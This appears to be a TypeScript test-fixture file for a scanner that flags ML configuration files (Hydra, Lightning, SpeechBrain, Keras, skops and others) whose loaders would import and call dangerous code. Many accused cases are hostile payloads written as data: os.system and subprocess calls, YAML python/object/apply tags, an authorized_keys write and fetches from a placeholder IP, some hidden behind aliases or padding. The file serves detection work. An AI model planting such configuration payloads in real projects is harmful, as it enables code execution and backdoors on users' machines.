/** Configurations that name what a loader imports and calls, and what reading them alone can tell. Nothing is loaded. */

/** `accused`: a finding over info. `unknown`: none, and a gap says which call is not known. `clean`: neither. */
export type Outcome = 'accused' | 'unknown' | 'clean';

export interface TargetCase {
  readonly what: string;
  /** The configuration, which comes first, and what lies beside it. */
  readonly files: Readonly<Record<string, string>>;
  readonly outcome: Outcome;
}

const json = (value: unknown): string => JSON.stringify(value);
const yaml = (what: string, content: string, outcome: Outcome, more: Readonly<Record<string, string>> = {}) =>
  ({ what, files: { 'config.yaml': content, ...more }, outcome }) satisfies TargetCase;
const other = (what: string, name: string, content: string, outcome: Outcome, more = {}) =>
  ({ what, files: { [name]: content, ...more }, outcome }) satisfies TargetCase;
const mlmodel = (what: string, loader: string, outcome: Outcome, more = {}) =>
  other(
    what,
    'MLmodel',
    `flavors:\n  python_function:\n    loader_module: ${loader}\n    data: model.pkl\nmlflow_version: 2.9.0\n`,
    outcome,
    more,
  );
const keras = (what: string, layer: object, outcome: Outcome) =>
  other(what, 'config.json', json({ class_name: 'Sequential', config: { name: 's', layers: [layer] } }), outcome);
const skops = (what: string, node: object, outcome: Outcome) =>
  other(what, 'schema.json', json({ ...node, protocol: 1, _skops_version: '0.9' }), outcome);

export const NET = 'import torch\n\n\nclass Net(torch.nn.Module):\n    pass\n';
const EVIL = "import os\nos.system('id')\n";

export const TARGET_CASES: readonly TargetCase[] = [
  // Names that are dangerous whatever they get
  yaml('subprocess.run', 'x:\n  _target_: subprocess.run\n  args: [id]\n', 'accused'),
  yaml('os.system in a list', 'callbacks:\n  - _target_: os.system\n    command: id\n', 'accused'),
  yaml('builtins.exec', 'x: {_target_: builtins.exec, _args_: ["import this"]}\n', 'accused'),
  yaml('torch.hub.load', 'x:\n  _target_: torch.hub.load\n  repo_or_dir: a/b\n', 'accused'),
  yaml('runpy.run_path', 'x:\n  _target_: runpy.run_path\n  path_name: x.py\n', 'accused'),
  yaml('posix.system', 'x:\n  _target_: posix.system\n  _args_: [id]\n', 'accused'),
  yaml('nt.system', 'x:\n  _target_: nt.system\n  _args_: [id]\n', 'accused'),
  yaml('class_path of Lightning', 'model:\n  class_path: subprocess.Popen\n  init_args: {args: id}\n', 'accused'),
  yaml('a target of latent diffusion', 'model:\n  target: os.system\n  params: {command: id}\n', 'accused'),
  // Functions of libraries that act with what they are given
  yaml(
    'code for a timing function of NumPy',
    'x:\n  _target_: numpy.testing._private.utils.measure\n  code_str: print(1)\n',
    'accused',
  ),
  yaml(
    'a process for joblib to end',
    'x:\n  _target_: joblib.externals.loky.backend.utils._kill\n  pid: "1"\n',
    'accused',
  ),
  yaml(
    'an address for pandas',
    'x:\n  _target_: pandas.read_csv\n  filepath_or_buffer: http://192.0.2.1/x.csv\n',
    'accused',
  ),
  yaml('a command for setuptools', 'x:\n  _target_: setuptools._distutils.spawn.spawn\n  cmd: [id]\n', 'accused'),
  yaml('an expression for numexpr', 'x:\n  _target_: numexpr.necompiler.validate\n  ex: "print(1)"\n', 'accused'),
  yaml(
    'an expression for numexpr by position',
    'x:\n  _target_: numexpr.necompiler.validate\n  _args_:\n    - "print(1)"\n',
    'accused',
  ),
  yaml(
    'a library of machine code',
    'x:\n  _target_: torch.cuda.memory.CUDAPluggableAllocator\n  path_to_so_file: x.so\n',
    'accused',
  ),
  yaml(
    'a command for a class of pexpect',
    'x:\n  class_path: pexpect.popen_spawn.PopenSpawn\n  init_args: {cmd: id}\n',
    'accused',
  ),
  other(
    'a command in JSON',
    'conf.json',
    json({ x: { _target_: 'setuptools._distutils.spawn.spawn', cmd: ['id'] } }),
    'accused',
  ),
  other(
    'a command in TOML',
    'conf.toml',
    '[x]\n_target_ = "joblib.externals.loky.backend.utils._kill"\npid = "1"\n',
    'accused',
  ),
  other(
    'a component of torchtune',
    'recipe.yaml',
    'x:\n  _component_: joblib.externals.loky.backend.utils._kill\n  pid: "1"\n',
    'accused',
  ),
  other(
    'a type of a registry',
    'conf.json',
    json({ model: { type: 'joblib.externals.loky.backend.utils._kill', pid: '1' } }),
    'accused',
  ),
  yaml('a tag of YAML', 'x: !!python/object/apply:joblib.externals.loky.backend.utils._kill ["1"]\n', 'accused'),
  yaml(
    'a tag of YAML with an own library',
    'x: !!python/object/apply:torch.cuda.memory.CUDAPluggableAllocator [x.so, a, b]\n',
    'accused',
  ),
  other(
    'a handler of logging',
    'logging.yaml',
    'handlers:\n  a:\n    (): joblib.externals.loky.backend.utils._kill\n    pid: "1"\n',
    'accused',
  ),
  other(
    'an object of jsonpickle',
    'state.json',
    json({ 'py/reduce': [{ 'py/function': 'joblib.externals.loky.backend.utils._kill' }, { 'py/tuple': ['1'] }] }),
    'accused',
  ),
  mlmodel('a loader of Python itself', 'subprocess', 'accused'),
  other(
    'a module of sentence-transformers',
    'modules.json',
    json([{ idx: 0, name: '0', path: '1', type: 'joblib.externals.loky.backend.utils._kill' }]),
    'accused',
  ),
  other(
    'a component of diffusers',
    'model_index.json',
    json({ _class_name: 'P', _diffusers_version: '0.30', vae: ['joblib.externals.loky.backend.utils', '_kill'] }),
    'accused',
  ),
  other(
    'a mapping of PEFT',
    'adapter_config.json',
    json({
      peft_type: 'LORA',
      auto_mapping: { parent_library: 'joblib.externals.loky.backend.utils', base_model_class: '_kill' },
    }),
    'accused',
  ),
  keras(
    'a function of a library in a Keras layer',
    { class_name: 'function', module: 'numexpr.necompiler', config: 'validate', registered_name: 'validate' },
    'accused',
  ),
  skops(
    'a function of a library in skops',
    {
      __class__: '_kill',
      __module__: 'joblib.externals.loky.backend.utils',
      __loader__: 'ReduceNode',
      content: {
        reduce: { args: { __class__: 'tuple', __module__: 'builtins', __loader__: 'TupleNode', content: [] } },
      },
    },
    'accused',
  ),
  // Names that nobody knows
  yaml('a function of an unknown library', 'x:\n  _target_: somelib.tools.start\n  name: a\n', 'unknown'),
  yaml('a function of an unknown library without arguments', 'x:\n  _target_: somelib.tools.start\n', 'unknown'),
  yaml(
    'a class of an unknown library',
    'model:\n  class_path: somelib.models.Net\n  init_args: {width: 8}\n',
    'unknown',
  ),
  yaml('an own class that is not there', 'model:\n  _target_: src.models.net.Net\n  width: 8\n', 'unknown'),
  other('a function in JSON', 'conf.json', json({ x: { _target_: 'somelib.start', y: 1 } }), 'unknown'),
  mlmodel('a loader that is not there', 'own_loader', 'unknown'),
  other(
    'a module of an unknown library',
    'modules.json',
    json([{ idx: 0, name: '0', path: '', type: 'somelib.models.Pool' }]),
    'unknown',
  ),
  yaml('a code of an own class that acts', 'model:\n  _target_: models.net.Net\n', 'accused', {
    'models/net.py': EVIL,
  }),
  // Configurations as people write them
  yaml('a layer', 'model:\n  _target_: torch.nn.Linear\n  in_features: 8\n  out_features: 2\n', 'clean'),
  yaml(
    'an optimiser to be finished',
    'optimizer:\n  _target_: torch.optim.Adam\n  _partial_: true\n  lr: 0.001\n',
    'clean',
  ),
  yaml(
    'a training with Lightning',
    `seed_everything: 42
trainer:
  accelerator: auto
  devices: 1
  max_epochs: 10
  logger:
    class_path: lightning.pytorch.loggers.TensorBoardLogger
    init_args:
      save_dir: /home/user/logs
      name: run
  callbacks:
    - class_path: lightning.pytorch.callbacks.ModelCheckpoint
      init_args:
        dirpath: /home/user/checkpoints
        filename: '{epoch:02d}-{val_loss:.2f}'
        monitor: val_loss
        mode: min
    - class_path: lightning.pytorch.callbacks.EarlyStopping
      init_args: {monitor: val_loss, patience: 3}
optimizer:
  class_path: torch.optim.AdamW
  init_args: {lr: 0.0003, weight_decay: 0.01}
lr_scheduler:
  class_path: torch.optim.lr_scheduler.CosineAnnealingLR
  init_args: {T_max: 10}
`,
    'clean',
  ),
  yaml(
    'a training with Hydra',
    `defaults: [_self_]
trainer:
  _target_: pytorch_lightning.Trainer
  default_root_dir: /data/runs
  accelerator: gpu
  strategy: ddp
logger:
  wandb:
    _target_: pytorch_lightning.loggers.WandbLogger
    project: p
    save_dir: ../logs
  mlflow:
    _target_: pytorch_lightning.loggers.MLFlowLogger
    tracking_uri: http://localhost:5000
data:
  train:
    _target_: torch.utils.data.DataLoader
    batch_size: 8
    dataset:
      _target_: torchvision.datasets.ImageFolder
      root: /data/imagenet/train
      transform:
        _target_: torchvision.transforms.Compose
        transforms:
          - _target_: torchvision.transforms.Resize
            size: 256
          - _target_: torchvision.transforms.ToTensor
`,
    'clean',
  ),
  yaml('a network of torchvision', 'net:\n  _target_: torchvision.models.resnet50\n  weights: DEFAULT\n', 'clean'),
  yaml(
    'a network of timm',
    'net:\n  _target_: timm.create_model\n  model_name: resnet18\n  pretrained: true\n',
    'clean',
  ),
  yaml(
    'a network of transformers',
    'net:\n  _target_: transformers.AutoModel.from_pretrained\n  pretrained_model_name_or_path: bert-base-uncased\n',
    'clean',
  ),
  yaml(
    'a network of transformers in a folder',
    'net:\n  _target_: transformers.AutoModelForSequenceClassification.from_pretrained\n  pretrained_model_name_or_path: /models/bert\n',
    'clean',
  ),
  yaml(
    'a schedule',
    's:\n  _target_: transformers.get_cosine_schedule_with_warmup\n  _partial_: true\n  num_warmup_steps: 10\n',
    'clean',
  ),
  yaml('a data set of the hub', 'd:\n  _target_: datasets.load_dataset\n  path: imdb\n  split: train\n', 'clean'),
  yaml(
    'an estimator',
    'm:\n  _target_: sklearn.linear_model.LogisticRegression\n  penalty: l2\n  solver: saga\n',
    'clean',
  ),
  yaml(
    'a search',
    'm:\n  _target_: sklearn.model_selection.GridSearchCV\n  estimator:\n    _target_: sklearn.svm.SVC\n    kernel: rbf\n',
    'clean',
  ),
  yaml(
    'a boosted classifier',
    'm:\n  _target_: xgboost.XGBClassifier\n  objective: binary:logistic\n  device: cuda\n',
    'clean',
  ),
  yaml('a metric', 'm:\n  _target_: torchmetrics.Accuracy\n  task: multiclass\n  num_classes: 3\n', 'clean'),
  yaml('a method to be taken', 'x:\n  _target_: hydra.utils.get_class\n  path: torch.nn.ReLU\n', 'clean'),
  yaml('a function to be taken', 'x:\n  _target_: hydra.utils.get_method\n  path: torch.nn.functional.relu\n', 'clean'),
  yaml(
    'values of Python',
    'x:\n  _target_: collections.OrderedDict\ny:\n  _target_: builtins.dict\n  a: b\nz:\n  _target_: pathlib.Path\n  _args_: [/data/x]\n',
    'clean',
  ),
  yaml(
    'a model of NeMo',
    'target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n  feat_in: 80\nsample_rate: 16000\n',
    'clean',
  ),
  yaml(
    'a model of latent diffusion',
    'model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    ckpt_path: /models/vq.ckpt\n    monitor: val/loss_simple_ema\n',
    'clean',
  ),
  yaml('an own class that lies beside', 'model:\n  _target_: models.net.Net\n  width: 8\n', 'clean', {
    'models/net.py': NET,
  }),
  yaml(
    'an own class in a package that lies beside',
    'model:\n  class_path: models.Net\n  init_args: {width: 8}\n',
    'clean',
    { 'models/__init__.py': NET },
  ),
  other(
    'a registry of MMEngine',
    'conf.json',
    json({
      model: { type: 'mmdet.FasterRCNN', backbone: { type: 'ResNet' } },
      optim_wrapper: { type: 'OptimWrapper' },
    }),
    'clean',
  ),
  other(
    'types of other things',
    'conf.json',
    json({ a: { type: 'image.png' }, b: { type: 'code.python' }, c: { type: 'trace.json' } }),
    'clean',
  ),
  other(
    'targets of other things',
    'conf.json',
    json({ target: 'price.usd', targets: ['a.b'], build: { target: 'prod.stage' } }),
    'clean',
  ),
  other(
    'modules of sentence-transformers',
    'modules.json',
    json([
      { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
      { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
    ]),
    'clean',
  ),
  other(
    'components of diffusers',
    'model_index.json',
    json({
      _class_name: 'StableDiffusionPipeline',
      _diffusers_version: '0.30',
      safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
      scheduler: ['diffusers', 'PNDMScheduler'],
      text_encoder: ['transformers', 'CLIPTextModel'],
    }),
    'clean',
  ),
  other(
    'an adapter of PEFT',
    'adapter_config.json',
    json({
      peft_type: 'LORA',
      auto_mapping: { parent_library: 'transformers.models.bert.modeling_bert', base_model_class: 'BertModel' },
    }),
    'clean',
  ),
  mlmodel('a loader of MLflow', 'mlflow.sklearn', 'clean'),
  mlmodel('a loader that lies beside', 'own_loader', 'clean', {
    'own_loader.py': 'import joblib\n\n\ndef _load_pyfunc(path):\n    return None\n',
  }),
  keras(
    'a layer of Keras',
    { class_name: 'Dense', module: 'keras.layers', config: { units: 2, activation: 'relu' }, registered_name: null },
    'clean',
  ),
  skops(
    'an estimator in skops',
    {
      __class__: 'LogisticRegression',
      __module__: 'sklearn.linear_model._logistic',
      __loader__: 'ObjectNode',
      content: { __class__: 'dict', __module__: 'builtins', __loader__: 'DictNode', content: {} },
    },
    'clean',
  ),
  other(
    'settings of logging',
    'logging.yaml',
    'version: 1\nhandlers:\n  a: {class: logging.StreamHandler, stream: ext://sys.stdout}\nformatters:\n  f: {format: "%(message)s"}\n',
    'clean',
  ),
  other(
    'a pipeline of spaCy',
    'config.cfg',
    '[nlp]\nlang = "en"\npipeline = ["tok2vec","ner"]\n[components.ner.model]\n@architectures = "spacy.TransitionBasedParser.v2"\n[training.optimizer]\n@optimizers = "Adam.v1"\n[x]\n@misc = "set_attr"\n',
    'clean',
  ),
  // Variants
  yaml(
    'a target in the arguments of another',
    'a:\n  _target_: torch.nn.Sequential\n  _args_:\n    - _target_: torch.nn.ReLU\n    - _target_: os.system\n      command: id\n',
    'accused',
  ),
  yaml(
    'a process to be ended later',
    'x:\n  _target_: joblib.externals.loky.backend.utils._kill\n  _partial_: true\n',
    'unknown',
  ),
  yaml('a process by its number', 'x:\n  _target_: joblib.externals.loky.backend.utils._kill\n  pid: 1\n', 'unknown'),
  yaml(
    'instantiate of a configuration',
    'x:\n  _target_: hydra.utils.instantiate\n  config:\n    _target_: numexpr.necompiler.validate\n    ex: a\n',
    'accused',
  ),
  yaml(
    'call of a configuration by position',
    'x:\n  _target_: hydra.utils.call\n  _args_:\n    - _target_: subprocess.run\n      args: id\n',
    'accused',
  ),
  yaml(
    'get_method of a function that evaluates',
    'x:\n  _target_: hydra.utils.get_method\n  path: numexpr.necompiler.validate\n',
    'accused',
  ),
  yaml('get_class by position', 'x:\n  _target_: hydra.utils.get_class\n  _args_: [subprocess.Popen]\n', 'accused'),
  yaml(
    'get_class of an unknown library',
    'x:\n  _target_: hydra.utils.get_class\n  path: somelib.models.Net\n',
    'unknown',
  ),
  yaml(
    'a partial of what a method gives',
    'x:\n  _target_: functools.partial\n  _args_:\n    - _target_: hydra.utils.get_method\n      path: numexpr.necompiler.validate\n    - "print(1)"\n',
    'accused',
  ),
  yaml(
    'a name over two references',
    'm: joblib.externals.loky.backend.utils\nf: _kill\nx:\n  _target_: ${m}.${f}\n  pid: "1"\n',
    'accused',
  ),
  yaml(
    'an argument over a reference',
    'code: print(1)\nx:\n  _target_: numexpr.necompiler.validate\n  ex: ${code}\n',
    'accused',
  ),
  yaml(
    'an argument by the environment',
    'x:\n  _target_: numexpr.necompiler.validate\n  ex: ${oc.env:EXPRESSION}\n',
    'accused',
  ),
  yaml(
    'NumPy behind another library',
    'x:\n  _target_: somelib.utils.np.testing.measure\n  code_str: print(1)\n',
    'accused',
  ),
  yaml(
    'a compiler behind a library of models',
    'x:\n  _target_: torch.testing._internal.common_utils.np.f2py.compile\n  source: "x"\n',
    'accused',
  ),
  yaml(
    'numexpr behind pandas',
    'x:\n  _target_: pandas.core.computation.expressions.ne.necompiler.validate\n  ex: print(1)\n',
    'accused',
  ),
  yaml('os behind a library of models', 'x:\n  _target_: transformers.utils.hub.os.system\n  command: id\n', 'accused'),
  yaml('dots in front', 'x:\n  _target_: .os.system\n  command: id\n', 'accused'),
  yaml('dots twice', 'x:\n  _target_: os..system\n  command: id\n', 'accused'),
  yaml('a colon', 'x:\n  _target_: os:system\n  command: id\n', 'accused'),
  yaml('a function of Python alone', 'x:\n  _target_: exec\n  _args_: ["import this"]\n', 'accused'),
  yaml(
    'a target merged by an alias',
    'a: &a\n  _target_: numexpr.necompiler.validate\nx:\n  <<: *a\n  ex: print(1)\n',
    'accused',
  ),
  yaml(
    'arguments behind an alias',
    'a: &a [print(1)]\nx:\n  _target_: numexpr.necompiler.validate\n  _args_: *a\n',
    'accused',
  ),
  yaml(
    'an argument behind many values',
    `x:\n  _target_: numexpr.necompiler.validate\n${Array.from({ length: 1500 }, (_, at) => `  a${at}: 1\n`).join('')}  ex: print(1)\n`,
    'accused',
  ),
  yaml(
    'a target behind many values',
    `${Array.from({ length: 21_000 }, (_, at) => `a${at}: 1\n`).join('')}x:\n  _target_: numexpr.necompiler.validate\n  ex: print(1)\n`,
    'accused',
  ),
  yaml('an address by position', 'x:\n  _target_: pandas.read_csv\n  _args_: [http://192.0.2.1/x.csv]\n', 'accused'),
  yaml(
    'a file that lets in',
    'x:\n  _target_: numpy.savetxt\n  fname: ~/.ssh/authorized_keys\n  X: [ssh-rsa A]\n',
    'accused',
  ),
  yaml(
    'a command in dict_kwargs',
    'x:\n  class_path: pexpect.popen_spawn.PopenSpawn\n  dict_kwargs: {cmd: id}\n',
    'accused',
  ),
  other(
    'an instance of GluonTS',
    'predictor.json',
    json({ __kind__: 'instance', class: 'numexpr.necompiler.validate', args: ['print(1)'] }),
    'accused',
  ),
  other(
    'a pipeline of pyannote',
    'config.yaml',
    'pipeline:\n  name: numexpr.necompiler.validate\n  params: {ex: print(1)}\n',
    'accused',
  ),
  other('a call of SpeechBrain', 'hyperparams.yaml', 'x: !apply:os.system [id]\n', 'accused'),
  other(
    'a call of SpeechBrain by keyword',
    'hyperparams.yaml',
    'x: !apply:numexpr.necompiler.validate\n  ex: print(1)\n',
    'accused',
  ),
  other('a class of SpeechBrain', 'hyperparams.yaml', 'x: !new:subprocess.Popen [id]\n', 'accused'),
  other('a name of SpeechBrain', 'hyperparams.yaml', 'x: !name:subprocess.run\n  args: id\n', 'accused'),
  other('an unknown class of SpeechBrain', 'hyperparams.yaml', 'x: !new:somelib.Net\n  width: 8\n', 'unknown'),
  other(
    'a function that a package registered with spaCy',
    'config.cfg',
    '[components.x.model]\n@architectures = "somelib.Arch.v1"\n',
    'unknown',
  ),
  skops(
    'a partial in skops',
    {
      __class__: 'partial',
      __module__: 'functools',
      __loader__: 'PartialNode',
      content: {
        func: {
          __class__: 'function',
          __module__: 'numexpr.necompiler',
          __loader__: 'FunctionNode',
          content: { module_path: 'numexpr.necompiler', function: 'validate' },
        },
      },
    },
    'accused',
  ),
  keras(
    'a class of a library that starts programs',
    { class_name: 'PopenSpawn', module: 'pexpect.popen_spawn', config: { cmd: 'id' }, registered_name: 'PopenSpawn' },
    'accused',
  ),
  keras(
    'a layer of an unknown library',
    { class_name: 'Attention2', module: 'somelib.layers', config: { units: 2 }, registered_name: 'somelib>Attention2' },
    'unknown',
  ),
  keras(
    'a layer of KerasHub',
    {
      class_name: 'TransformerEncoder',
      module: 'keras_hub.layers',
      config: { intermediate_dim: 2 },
      registered_name: 'keras_hub>TransformerEncoder',
    },
    'clean',
  ),
  yaml(
    'a table that lies in the folder',
    'd:\n  _target_: pandas.read_csv\n  filepath_or_buffer: data/train.csv\n',
    'clean',
  ),
  yaml(
    'tokenizers with their words',
    't:\n  _target_: transformers.BertTokenizer\n  vocab_file: /models/vocab.txt\n  unk_token: "[UNK]"\n',
    'clean',
  ),
  yaml(
    'sentence encoders in a folder',
    'm:\n  _target_: sentence_transformers.SentenceTransformer\n  model_name_or_path: /models/minilm\n  device: cuda\n',
    'clean',
  ),
  yaml(
    'layers merged by an alias',
    'base: &base\n  _target_: torch.nn.Linear\n  in_features: 8\na:\n  <<: *base\n  out_features: 1\nb:\n  <<: *base\n  out_features: 2\n',
    'clean',
  ),
  yaml('a layer of a chosen name', 'act: ReLU\nx:\n  _target_: torch.nn.${act}\n', 'clean'),
  yaml(
    'a dataset of tables on the web',
    'd:\n  _target_: datasets.load_dataset\n  path: csv\n  data_files: train.csv\n',
    'clean',
  ),
  other(
    'a recipe of torchtune',
    'recipe.yaml',
    'model:\n  _component_: torchtune.models.llama3.llama3_8b\noptimizer:\n  _component_: torch.optim.AdamW\n  fused: true\n  lr: 2e-5\nloss:\n  _component_: torch.nn.CrossEntropyLoss\n',
    'clean',
  ),
  other(
    'hyperparameters of SpeechBrain',
    'hyperparams.yaml',
    'seed: 1986\n__set_seed: !apply:torch.manual_seed [!ref <seed>]\nembedding_model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n  input_size: 80\n  channels: [1024, 1024]\nopt: !name:torch.optim.Adam\n  lr: 0.001\nmodules:\n  embedding_model: !ref <embedding_model>\npretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer\n  loadables:\n    embedding_model: !ref <embedding_model>\n  paths:\n    embedding_model: speechbrain/spkrec-ecapa-voxceleb/embedding_model.ckpt\n',
    'clean',
  ),
  other(
    'a pipeline of pyannote as published',
    'config.yaml',
    'version: 3.1.0\npipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params:\n    clustering: AgglomerativeClustering\n    embedding: pyannote/wespeaker-voxceleb-resnet34-LM\n    segmentation: pyannote/segmentation-3.0\nparams: {clustering: {method: centroid, threshold: 0.7}}\n',
    'clean',
  ),
  other(
    'a predictor of GluonTS',
    'predictor.json',
    json({
      __kind__: 'instance',
      class: 'gluonts.torch.model.predictor.PyTorchPredictor',
      args: [],
      kwargs: { prediction_length: 24, device: 'cpu' },
    }),
    'clean',
  ),
  other(
    'names and parameters of other things',
    'conf.json',
    json({
      tools: [
        { name: 'os.list', params: { a: 'b' } },
        { name: 'code.run', parameters: {} },
      ],
    }),
    'clean',
  ),
  other(
    'a plan of Hydra itself',
    'hydra.yaml',
    'hydra:\n  run: {dir: logs}\n  sweeper:\n    _target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\n    max_batch_size: null\n  launcher:\n    _target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher\n  runtime: {cwd: /home/user/project}\n',
    'clean',
  ),
  yaml(
    'a repository that is cloned',
    'x:\n  _target_: git.Repo.clone_from\n  url: https://192.0.2.1/x.git\n  to_path: x\n',
    'accused',
  ),
  yaml(
    'a network whose repository brings code',
    'x:\n  _target_: transformers.AutoModel.from_pretrained\n  pretrained_model_name_or_path: a/b\n  trust_remote_code: true\n',
    'unknown',
  ),
  other(
    'kernels of a repository',
    'config.json',
    json({ model_type: 'llama', attn_implementation: 'somebody/kernels' }),
    'accused',
  ),
  other(
    'attention as published',
    'config.json',
    json({ model_type: 'llama', _attn_implementation: 'flash_attention_2' }),
    'clean',
  ),
  yaml(
    'a command for a function of a library of models',
    'x:\n  _target_: nemo.utils.somewhere.launch\n  command: "id; ls"\n',
    'unknown',
  ),
  other(
    'a target behind keys that stand twice',
    'conf.json',
    `{${'"a":1,'.repeat(300)}"x":{"_target_":"os.system","command":"id"}}`,
    'accused',
  ),
  other(
    'a target behind switches',
    'conf.json',
    `{"a":[${'{"markup":"<script>"},'.repeat(300)}{"_target_":"os.system"}]}`,
    'accused',
  ),
  other(
    'an activation of sentence-transformers',
    'config.json',
    json({ in_features: 8, out_features: 2, activation_function: 'antigravity.webbrowser.open' }),
    'accused',
  ),
  other(
    'an activation as published',
    'config.json',
    json({ in_features: 8, out_features: 2, bias: true, activation_function: 'torch.nn.modules.activation.Tanh' }),
    'clean',
  ),
  other(
    'an activation of a cross encoder',
    'config.json',
    json({ model_type: 'bert', sbert_ce_default_activation_function: 'torch.nn.modules.linear.Identity' }),
    'clean',
  ),
  other(
    'an activation of transformers',
    'config.json',
    json({ model_type: 'gpt2', activation_function: 'gelu_new' }),
    'clean',
  ),
  other(
    'a component of Haystack',
    'pipeline.yaml',
    'components:\n  x:\n    type: numexpr.necompiler.validate\n    init_parameters: {ex: print(1)}\n',
    'accused',
  ),
  other(
    'components of Haystack',
    'pipeline.yaml',
    'components:\n  x:\n    type: haystack.components.builders.PromptBuilder\n    init_parameters: {template: "{{ query }}"}\n',
    'clean',
  ),
  other(
    'imports of MMEngine',
    'conf.json',
    json({ custom_imports: { imports: ['own_module'], allow_failed_imports: false } }),
    'unknown',
  ),
  other('imports of MMEngine that act', 'conf.json', json({ custom_imports: { imports: ['own_module'] } }), 'accused', {
    'own_module.py': EVIL,
  }),
  other(
    'imports of MMEngine of a known library',
    'conf.json',
    json({ custom_imports: { imports: ['mmdet.models'] } }),
    'clean',
  ),
  other(
    'activations by short names',
    'conf.json',
    json({ activation_fn: 'nn.Tanh', b: { activation_function: 'F.gelu' } }),
    'clean',
  ),
  other(
    'an activation of an unknown library',
    'config.json',
    json({ in_features: 8, activation_function: 'somelib.nn.Act' }),
    'unknown',
  ),
];
